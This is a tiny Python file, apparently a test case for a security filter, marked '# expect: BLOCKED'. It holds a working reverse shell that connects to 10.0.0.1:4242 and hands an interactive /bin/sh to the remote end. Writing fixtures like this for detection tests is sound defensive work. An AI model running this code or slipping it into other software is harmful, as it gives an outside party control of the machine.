# expect: BLOCKED
import socket, subprocess, os
s = socket.socket()
s.connect(("10.0.0.1", 4242))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
subprocess.call(["/bin/sh", "-i"])
